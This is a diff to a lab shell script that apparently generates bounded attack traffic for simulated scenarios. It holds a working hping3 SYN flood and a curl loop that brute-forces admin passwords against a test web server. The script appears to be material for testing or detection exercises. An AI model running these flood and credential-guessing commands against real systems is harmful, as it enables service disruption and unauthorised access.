@@ -1,4 +1,5 @@
 # SPDX-License-Identifier: Apache-2.0
+# shellcheck shell=bash
 # attacks.sh - one function an attack, read with `.` by day.sh; each is bounded in count and time, and returns 77 where its tool is not
 # there. $long is "yes" in the long scenes.
 by_length() { if [ "$long" = yes ]; then echo "$2"; else echo "$1"; fi; } # by_length SHORT LONG
@@ -16,12 +17,12 @@ flood() {
     on atk timeout 15 hping3 -q -S -p 80 -i u1000 -c "$(by_length 1500 3000)" 10.77.0.10
 }
 
-# Passwords tried at the part of the web server that asks for one.
+# Passwords tried at the part of the web server that asks for one; its name is looked up once, as crackers do.
 brute() {
     has curl || return 77
     local i
     for i in $(seq "$(by_length 40 150)"); do
-        on atk timeout 5 curl -s -o /dev/null -u "admin:secret$i" http://www.plant.test/admin/0
+        on atk timeout 5 curl -s -o /dev/null --resolve www.plant.test:80:10.77.0.10 -u "admin:secret$i" http://www.plant.test/admin/0
     done
 }
 
